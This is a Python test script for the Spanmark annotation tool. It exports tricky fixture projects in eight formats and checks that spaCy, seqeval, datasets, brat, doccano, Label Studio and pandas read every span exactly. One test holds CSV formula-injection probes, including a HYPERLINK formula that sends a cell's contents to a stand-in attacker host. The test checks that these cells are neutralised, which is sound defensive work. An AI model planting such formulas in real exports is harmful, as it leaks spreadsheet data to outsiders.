"""Checks Spanmark's exports with the tools that consume them.

Usage: check.py PATH/TO/spanmark

Builds a tricky fixture project (curly quotes, an astral emoji right before a
span, Urdu, CRLF, a span across a line break, nested spans), exports it and
the bundled sample in every format, and asserts that spaCy, datasets and
seqeval read them and that every span sits on exactly its text.
"""

import csv
import hashlib
import json
import re
import subprocess
import sys
import tempfile
from pathlib import Path

SPANMARK = sys.argv[1]
ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "sample-projects" / "kp-wssp-abduction-attempt.spanmark.json"
FORMATS = ["jsonl", "conll", "hf", "brat", "doccano", "label-studio", "csv", "events"]
checks = 0


def ok(cond, msg):
    global checks
    checks += 1
    if not cond:
        raise AssertionError(msg)


def run(*args):
    r = subprocess.run([SPANMARK, *map(str, args)], capture_output=True, text=True)
    if r.returncode != 0:
        raise AssertionError(f"spanmark {' '.join(map(str, args))} failed: {r.stderr}")
    return r.stdout


def tricky_project(path):
    """A project whose spans are computed with Python string (code point) indices."""
    texts = {
        "emoji-quotes": "🙂Bannu police said “Karak” was calm.\r\nThe WSSP official’s house in\r\nMandan was attacked.",
        "urdu": "بنوں میں 15 عسکریت پسند مارے گئے۔ Bannu 🙂Peshawar",
    }
    wanted = {
        "emoji-quotes": [
            ("LOCATION", "Bannu", 0), ("LOCATION", "Karak", 0), ("ACTOR", "WSSP official", 0),
            ("ACTOR", "WSSP", 0), ("LOCATION", "house in\r\nMandan", 0), ("LOCATION", "Mandan", 0),
            ("EVENT", "was attacked", 0), ("ACTOR", "Bannu police", 0),
        ],
        "urdu": [
            ("LOCATION", "بنوں", 0), ("COUNT", "15 عسکریت پسند", 0), ("ACTOR", "عسکریت پسند", 0),
            ("LOCATION", "Bannu", 0), ("LOCATION", "Peshawar", 0),
        ],
    }
    docs, next_id = [], 1
    for doc_id, text in texts.items():
        spans = []
        for label, needle, nth in wanted[doc_id]:
            start = -1
            for _ in range(nth + 1):
                start = text.index(needle, start + 1)
            spans.append({"id": next_id, "start": start, "end": start + len(needle), "label": label})
            next_id += 1
        spans.sort(key=lambda s: (s["start"], -s["end"], s["id"]))
        docs.append({
            "id": doc_id, "name": doc_id, "status": "done",
            "fingerprint": "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest(),
            "text": text, "layers": {"tester": spans},
        })
        if doc_id == "urdu":
            # One dated document and one not: exports carry `date`, null for the other.
            docs[-1]["date"] = "2025-03-14"
    labels = [{"name": n, "color": c, "key": str(i + 1)} for i, (n, c) in
              enumerate([("LOCATION", "#56B4E9"), ("ACTOR", "#D55E00"), ("EVENT", "#009E73"), ("COUNT", "#E69F00")])]
    project = {"format": "spanmark-project", "version": 1, "offset_unit": "codepoint",
               "annotators": ["tester"], "schema": {"labels": labels}, "documents": docs}
    path.write_text(json.dumps(project, ensure_ascii=False), encoding="utf-8")
    ok("ok" in run("validate", path), "fixture validates")


def expected_spans(project_path):
    """{doc name: set of (start, end, label, text)} from the project's only annotator layer."""
    p = json.loads(Path(project_path).read_text(encoding="utf-8"))
    out, texts = {}, {}
    for d in p["documents"]:
        (spans,) = d["layers"].values()
        out[d["id"]] = {(s["start"], s["end"], s["label"], d["text"][s["start"]:s["end"]]) for s in spans}
        texts[d["id"]] = d["text"]
    return out, texts, p


def check_jsonl(out, expected, texts):
    import spacy
    from spacy.tokens import DocBin

    nlp = spacy.blank("en")
    lines = (out / "data.jsonl").read_text(encoding="utf-8").splitlines()
    ok(len(lines) == len(expected), "one line per document")
    docs = []
    for line in lines:
        rec = json.loads(line)
        doc_id = rec["meta"]["id"]
        ok(rec["text"] == texts[doc_id], "text is exact")
        ok(rec["meta"]["fingerprint"] == "sha256:" + hashlib.sha256(rec["text"].encode()).hexdigest(), "fingerprint")
        words = [t["text"] for t in rec["tokens"]]
        spaces = [t["ws"] for t in rec["tokens"]]
        doc = spacy.tokens.Doc(nlp.vocab, words=words, spaces=spaces)
        ok(doc.text == rec["text"], f"spaCy Doc rebuilds the text of {doc_id}")
        for t in rec["tokens"]:
            ok(rec["text"][t["start"]:t["end"]] == t["text"], "token offsets")
        got = set()
        spans = []
        for s in rec["spans"]:
            span = doc.char_span(s["start"], s["end"], label=s["label"], alignment_mode="strict")
            ok(span is not None, f"char_span strict {s} in {doc_id}")
            ok(span.start == s["token_start"] and span.end == s["token_end"] + 1, "token indices (token_end inclusive)")
            ok(span.text == rec["text"][s["start"]:s["end"]], "span text")
            spans.append(span)
            got.add((s["start"], s["end"], s["label"], span.text))
        ok(got == expected[doc_id], f"jsonl keeps every span of {doc_id}")
        # Prodigy rel.manual relations: head and child are the last tokens of
        # their spans in the spaCy Doc, and both spans are spans of the line.
        keys = {(s["start"], s["end"], s["label"]) for s in rec["spans"]}
        for r in rec.get("relations", []):
            for end, side in (("head", "head_span"), ("child", "child_span")):
                sp = r[side]
                ok((sp["start"], sp["end"], sp["label"]) in keys, f"jsonl relation {side} is a span: {r}")
                token = doc[r[end]]
                ok(token.idx + len(token.text) == sp["end"], f"jsonl relation {end} token ends its span: {r}")
                ok(r[end] == sp["token_end"], f"jsonl relation {end} is its span's last token")
            ok(r["label"], "jsonl relation label")
        doc.spans["sc"] = spans
        docs.append((doc_id, doc))
    # A DocBin round trip keeps the spans.
    db = DocBin(docs=[d for _, d in docs], store_user_data=True)
    back = list(DocBin().from_bytes(db.to_bytes()).get_docs(nlp.vocab))
    for (doc_id, before), after in zip(docs, back):
        a = {(s.start_char, s.end_char, s.label_) for s in before.spans["sc"]}
        b = {(s.start_char, s.end_char, s.label_) for s in after.spans["sc"]}
        ok(a == b and after.text == before.text, f"DocBin round trip of {doc_id}")


def read_conll(path):
    sentences, cur = [], []
    for line in path.read_text(encoding="utf-8").split("\n"):
        if not line.strip():
            if cur:
                sentences.append(cur)
                cur = []
            continue
        token, tag = line.split("\t")
        cur.append((token, tag))
    if cur:
        sentences.append(cur)
    return [s for s in sentences if s[0][0] != "-DOCSTART-"]


def entities(tags):
    """(label, first token, last token) of an IOB2 sequence."""
    out, cur = [], None
    for i, t in enumerate(tags + ["O"]):
        if cur and not (t.startswith("I-") and t[2:] == cur[0]):
            out.append((cur[0], cur[1], i - 1))
            cur = None
        if t.startswith("B-"):
            cur = (t[2:], i)
    return out


def check_conll(out):
    from seqeval.metrics import f1_score
    from seqeval.scheme import IOB2

    sentences = read_conll(out / "data.conll")
    ok(sentences, "conll has sentences")
    y = [[tag for _, tag in s] for s in sentences]
    for tags in y:
        prev = "O"
        for t in tags:
            ok(t == "O" or t.startswith("B-") or t.startswith("I-"), f"tag {t}")
            if t.startswith("I-"):
                ok(prev != "O" and prev[2:] == t[2:], f"no I- after O or another type: {prev} {t}")
            prev = t
    ok(f1_score(y, y, mode="strict", scheme=IOB2) == 1.0, "seqeval strict IOB2 reads it; gold vs itself is 1.0")
    return sentences


def check_hf(out, conll_sentences):
    import datasets

    # A cache of its own: datasets would otherwise reuse the first folder named "hf".
    ds = datasets.load_dataset(str(out), cache_dir=str(out.parent / "hf-cache"))
    train = ds["train"]
    names = train.features["ner_tags"].feature.names
    ok(names[0] == "O" and "B-LOCATION" in names and "I-COUNT" in names, f"class label names {names}")
    ok(len(train) == len(conll_sentences), "same records as CoNLL")
    for row, sent in zip(train, conll_sentences):
        ok(row["tokens"] == [t for t, _ in sent], "tokens match CoNLL")
        tags = [names[i] for i in row["ner_tags"]]
        ok(entities(tags) == entities([t for _, t in sent]), "tags decode to the same spans")


def check_brat(out, expected, texts):
    for doc_id, text in texts.items():
        stem = out / doc_id
        ok(stem.with_suffix(".txt").read_bytes() == text.encode("utf-8"), f"brat .txt is exact for {doc_id}")
        got = set()
        for line in stem.with_suffix(".ann").read_text(encoding="utf-8").splitlines():
            if not line.startswith("T"):
                continue
            _, middle, ann_text = line.split("\t")
            label, offsets = middle.split(" ", 1)
            frags = [tuple(map(int, f.split())) for f in offsets.split(";")]
            ok(" ".join(text[a:b] for a, b in frags) == ann_text, f"brat T text equals the .txt slice: {line}")
            got.add((frags[0][0], frags[-1][1], label, text[frags[0][0]:frags[-1][1]]))
        ok(got == expected[doc_id], f"brat keeps every span of {doc_id}")
    ok((out / "annotation.conf").exists() and (out / "visual.conf").exists(), "brat configs")


def read_brat_conf(path):
    """annotation.conf as brat reads it: entity types; event types with
    their roles (allowed types, min, max); relation types; attributes with
    the types they apply to and their values."""
    section, conf = None, {"entities": set(), "events": {}, "relations": set(), "attributes": {}}
    for raw in path.read_text(encoding="utf-8").splitlines():
        line = raw.strip()
        if not line or line.startswith("#"):
            continue
        if line.startswith("[") and line.endswith("]"):
            section = line[1:-1]
            continue
        name, _, rest = line.partition("\t")
        if section == "entities":
            conf["entities"].add(name)
        elif section == "relations":
            if not name.startswith("<"):
                conf["relations"].add(name)
        elif section == "events":
            roles = {}
            for arg in filter(None, (a.strip() for a in rest.split(","))):
                role, types = arg.split(":")
                m = re.fullmatch(r"([^?*+{]+)([?*+]|\{(\d+)\})?", role)
                ok(m is not None, f"brat role spec {arg!r}")
                mark, n = m.group(2), m.group(3)
                lo, hi = {None: (1, 1), "?": (0, 1), "*": (0, None), "+": (1, None)}.get(mark, (int(n or 0), int(n or 0)))
                roles[m.group(1)] = (set(types.split("|")), lo, hi)
            conf["events"][name] = roles
        elif section == "attributes":
            args = dict(a.strip().split(":", 1) for a in rest.split(","))
            conf["attributes"][name] = (set(args["Arg"].split("|")), set(args.get("Value", "").split("|")))
    ok(not (conf["entities"] & set(conf["events"])), "brat: no type is both an entity and an event")
    return conf


def check_brat_links(out, project):
    """Every E, R and A line refers to annotations of its file, with roles,
    types, cardinalities and values declared in annotation.conf, and the
    events are the project's frames (trigger and fillers by text)."""
    conf = read_brat_conf(out / "annotation.conf")
    for d in project["documents"]:
        text = d["text"]
        (layer_name, spans), = d["layers"].items()
        by_id = {s["id"]: s for s in spans}
        want = []
        for f in d.get("frames", {}).get(layer_name, []):
            t = by_id[f["trigger"]]
            slots = sorted((sl["role"], text[by_id[sl["span"]]["start"]:by_id[sl["span"]]["end"]]) for sl in f["slots"])
            want.append((text[t["start"]:t["end"]], f.get("event_type"), tuple(slots)))
        tb, events, types = {}, {}, {}
        lines = (out / d["id"]).with_suffix(".ann").read_text(encoding="utf-8").splitlines()
        for line in lines:
            if line.startswith("T"):
                tid, middle, _ = line.split("\t")
                label, offsets = middle.split(" ", 1)
                frags = [tuple(map(int, f.split())) for f in offsets.split(";")]
                tb[tid] = (label, text[frags[0][0]:frags[-1][1]])
        for line in lines:
            if line.startswith("E"):
                eid, body = line.split("\t")
                first, *args = body.split()
                etype, trigger = first.split(":")
                ok(trigger in tb and tb[trigger][0] == etype, f"brat E trigger exists with its type: {line}")
                ok(etype in conf["events"], f"brat event type {etype} declared")
                roles, slots, counts = conf["events"][etype], [], {}
                for a in args:
                    role, target = a.split(":")
                    base = re.sub(r"\d+$", "", role) if re.sub(r"\d+$", "", role) in counts else role
                    ok(base in roles, f"brat role {base} declared for {etype}: {line}")
                    ok(target in tb, f"brat E argument {target} exists: {line}")
                    ok(tb[target][0] in roles[base][0], f"brat {base} takes {tb[target][0]}: {line}")
                    counts[base] = counts.get(base, 0) + 1
                    slots.append((base, tb[target][1]))
                for role, (_, lo, hi) in roles.items():
                    ok(hi is None or counts.get(role, 0) <= hi, f"brat {role} at most {hi}: {line}")
                events[eid] = (tb[trigger][1], tuple(sorted(slots)))
            elif line.startswith("R"):
                _, body = line.split("\t")
                rtype, a1, a2 = body.split()
                ok(rtype in conf["relations"], f"brat relation type {rtype} declared")
                ok(a1.startswith("Arg1:") and a2.startswith("Arg2:"), f"brat R arguments: {line}")
                ok(a1[5:] in tb and a2[5:] in tb, f"brat R arguments exist: {line}")
        for line in lines:
            if line.startswith("A"):
                _, body = line.split("\t")
                name, target, value = body.split()
                ok(name in conf["attributes"], f"brat attribute {name} declared")
                ok(target in events, f"brat attribute on an event of this file: {line}")
                ok(value in conf["attributes"][name][1], f"brat value {value} declared")
                types[target] = value.replace("_", " ")
        got = sorted((trig, types.get(eid), slots) for eid, (trig, slots) in events.items())
        ok(sorted(got, key=str) == sorted(want, key=str), f"brat events are the frames of {d['id']}")
        ok(len(events) == len(want), f"one brat event per frame of {d['id']}")


def check_doccano(out, expected, texts):
    for line in (out / "data.doccano.jsonl").read_text(encoding="utf-8").splitlines():
        rec = json.loads(line)
        doc_id = next(k for k, v in texts.items() if v == rec["text"])
        got = {(s, e, l, rec["text"][s:e]) for s, e, l in rec["label"]}
        ok(got == expected[doc_id], f"doccano spans of {doc_id}")
        if "relations" in rec:
            # Relation mode: the same spans as entities, relations between them.
            ents = {x["id"]: x for x in rec["entities"]}
            ok({(x["start_offset"], x["end_offset"], x["label"], rec["text"][x["start_offset"]:x["end_offset"]])
                for x in ents.values()} == expected[doc_id], f"doccano entities of {doc_id}")
            for r in rec["relations"]:
                ok(r["from_id"] in ents and r["to_id"] in ents and r["type"], f"doccano relation ends are entities: {r}")


def check_label_studio(out, expected, texts):
    tasks = json.loads((out / "data.label-studio.json").read_text(encoding="utf-8"))
    for task in tasks:
        text = task["data"]["text"]
        doc_id = task["data"]["spanmark_id"]
        got = set()
        results = task["annotations"][0]["result"]
        regions = {r["id"] for r in results if r["type"] == "labels"}
        config = (out / "label_config.xml").read_text()
        for r in results:
            if r["type"] == "relation":
                # Label Studio draws a relation between two regions of the
                # same annotation, labelled with a declared relation label.
                ok(r["from_id"] in regions and r["to_id"] in regions, f"Label Studio relation ends are regions: {r}")
                ok(r["direction"] in ("right", "left", "bi"), f"Label Studio relation direction: {r}")
                for label in r["labels"]:
                    ok(f'<Relation value="{label}"/>' in config, f"Label Studio relation label {label} declared")
                continue
            v = r["value"]
            ok(text[v["start"]:v["end"]] == v["text"], f"Label Studio value.text equals the slice: {v}")
            got.add((v["start"], v["end"], v["labels"][0], v["text"]))
        ok(got == expected[doc_id], f"Label Studio spans of {doc_id}")
    ok("<Labels name=\"label\" toName=\"text\">" in (out / "label_config.xml").read_text(), "labelling config")


def check_csv(out, expected, texts, project):
    got = {}
    with open(out / "data.csv", newline="", encoding="utf-8") as f:
        for row in csv.DictReader(f):
            doc_id = row["document"]
            s, e = int(row["start"]), int(row["end"])
            ok(texts[doc_id][s:e] == row["text"], f"csv text equals the slice: {row}")
            got.setdefault(doc_id, set()).add((s, e, row["label"], row["text"]))
    ok(got == expected, "csv keeps every span")


def check_events(out, project):
    """pandas reads the event table: one row per frame, each trigger on its text, event_date a date."""
    import pandas as pd

    frames = {}
    for d in project["documents"]:
        (layer,) = d["layers"].keys()
        spans = {sp["id"]: sp for sp in d["layers"][layer]}
        for f in d.get("frames", {}).get(layer, []):
            t = spans[f["trigger"]]
            frames[f"E{f['id']}"] = (d["id"], d["text"][t["start"]:t["end"]], d.get("date"))
    table = pd.read_csv(out / "events.csv", dtype={"event_id": str, "document": str, "trigger": str})
    lines = pd.read_json(out / "events.jsonl", lines=True, dtype=False) if frames else pd.DataFrame()
    ok(len(table) == len(frames) == len(lines), f"events: one row per frame ({len(table)}, {len(frames)})")
    texts = {d["id"]: d["text"] for d in project["documents"]}
    dates = pd.to_datetime(table["event_date"], format="%Y-%m-%d") if len(table) else []
    for i, row in table.iterrows():
        doc, trigger, date = frames[row["event_id"]]
        ok(row["document"] == doc and row["trigger"] == trigger, f"events: {row['event_id']} is its frame")
        s, e = int(row["trigger_start"]), int(row["trigger_end"])
        ok(texts[doc][s:e] == trigger, f"events: trigger offsets are code points: {row['event_id']}")
        want = pd.NaT if date is None else pd.Timestamp(date)
        ok(dates[i] == want or (pd.isna(dates[i]) and pd.isna(want)), f"events: event_date of {row['event_id']}")
    for _, line in lines.iterrows():
        doc, trigger, date = frames[line["event_id"]]
        ok(line["trigger"] == trigger and line["event_date"] == date, f"events.jsonl: {line['event_id']}")


def check_dates(base, project):
    """Each record's document date where each tool keeps metadata, and pandas reads them as dates."""
    import pandas as pd

    want = {d["text"]: d.get("date") for d in project["documents"]}
    dated = any(want.values())

    def same(got, text, where):
        if dated:
            ok(got == want[text], f"{where}: date {got!r} of its document")
        else:
            ok(got is None, f"{where}: no date key without dated documents")

    doccano = (base / "doccano" / "data.doccano.jsonl").read_text(encoding="utf-8")
    for line in doccano.splitlines():
        rec = json.loads(line)
        ok(("date" in rec) == dated, "doccano: date at the top (doccano metadata)")
        same(rec.get("date"), rec["text"], "doccano")
    for task in json.loads((base / "label-studio" / "data.label-studio.json").read_text(encoding="utf-8")):
        same(task["data"].get("date"), task["data"]["text"], "Label Studio data")
    spacy_lines = (base / "jsonl" / "data.jsonl").read_text(encoding="utf-8")
    for line in spacy_lines.splitlines():
        rec = json.loads(line)
        same(rec["meta"].get("date"), rec["text"], "jsonl meta")
    if dated:
        import io

        table = pd.read_json(io.StringIO(doccano), lines=True, dtype=False)
        table_dates = pd.to_datetime(table["date"], format="%Y-%m-%d")
        for i, text in enumerate(table["text"]):
            w = want[text]
            ok((pd.isna(table_dates[i]) and w is None) or table_dates[i] == pd.Timestamp(w), f"pandas reads the doccano date {w}")
        meta = pd.json_normalize([json.loads(x) for x in spacy_lines.splitlines()])
        dates = pd.to_datetime(meta["meta.date"], format="%Y-%m-%d")
        for i, text in enumerate(meta["text"]):
            w = want[text]
            ok((pd.isna(dates[i]) and w is None) or dates[i] == pd.Timestamp(w), f"pandas reads the jsonl meta.date {w}")


def check_csv_formulas(tmp):
    """Cells a spreadsheet would run as formulas get a ' unless --raw; Python's csv reads both back."""
    live = ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+1", "-2", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]
    inert = ["1-2", "“Karak”", "بنوں", "🙂=1", " =1", "a;=1+1"]
    docs = []
    for i, cell in enumerate(live + inert):
        text = cell + " in Bannu"
        docs.append({
            "id": f"d{i}", "name": f"d{i}", "status": "done",
            "fingerprint": "sha256:" + hashlib.sha256(text.encode("utf-8")).hexdigest(),
            "text": text,
            "layers": {"tester": [{"id": i + 1, "start": 0, "end": len(cell), "label": "LOCATION", "note": cell}]},
        })
    project = {"format": "spanmark-project", "version": 1, "offset_unit": "codepoint",
               "annotators": ["tester"], "schema": {"labels": [{"name": "LOCATION", "color": "#56B4E9", "key": "1"}]},
               "documents": docs}
    path = tmp / "formulas.spanmark.json"
    path.write_text(json.dumps(project, ensure_ascii=False), encoding="utf-8")
    for raw in [False, True]:
        out = tmp / ("formulas-raw" if raw else "formulas")
        run("export", path, "--format", "csv", "--out", out, *(["--raw"] if raw else []))
        with open(out / "data.csv", newline="", encoding="utf-8") as f:
            rows = {r["document"]: r for r in csv.DictReader(f)}
        ok(len(rows) == len(docs), "one csv row per formula span")
        for i, cell in enumerate(live + inert):
            want = "'" + cell if cell in live and not raw else cell
            row = rows[f"d{i}"]
            ok(row["text"] == want and row["note"] == want, f"csv cell {cell!r} (raw={raw}): {row}")
            ok(int(row["end"]) == len(cell), f"csv offsets unchanged: {row}")


def main():
    with tempfile.TemporaryDirectory() as tmp:
        tmp = Path(tmp)
        tricky = tmp / "tricky.spanmark.json"
        tricky_project(tricky)
        # The sample with a date on its article, so event_date is filled.
        dated = tmp / "dated-sample.spanmark.json"
        sample = json.loads(SAMPLE.read_text(encoding="utf-8"))
        sample["documents"][0]["date"] = "2025-03-14"
        dated.write_text(json.dumps(sample, ensure_ascii=False), encoding="utf-8")
        for project in [dated, tricky]:
            expected, texts, raw = expected_spans(project)
            for fmt in FORMATS:
                out = tmp / project.stem / fmt
                run("export", project, "--format", fmt, "--out", out)
            base = tmp / project.stem
            check_jsonl(base / "jsonl", expected, texts)
            sentences = check_conll(base / "conll")
            check_hf(base / "hf", sentences)
            check_brat(base / "brat", expected, texts)
            check_brat_links(base / "brat", raw)
            check_doccano(base / "doccano", expected, texts)
            check_label_studio(base / "label-studio", expected, texts)
            check_csv(base / "csv", expected, texts, raw)
            check_events(base / "events", raw)
            check_dates(base, raw)
            print(f"{project.name}: all formats agree with their consumers")
        check_csv_formulas(tmp)
        print("csv: formula cells neutralized, exact with --raw")
    print(f"{checks} passed, 0 failed")


if __name__ == "__main__":
    try:
        main()
    except AssertionError as e:
        print(f"FAILED: {e}")
        print(f"{checks - 1} passed, 1 failed")
        sys.exit(1)
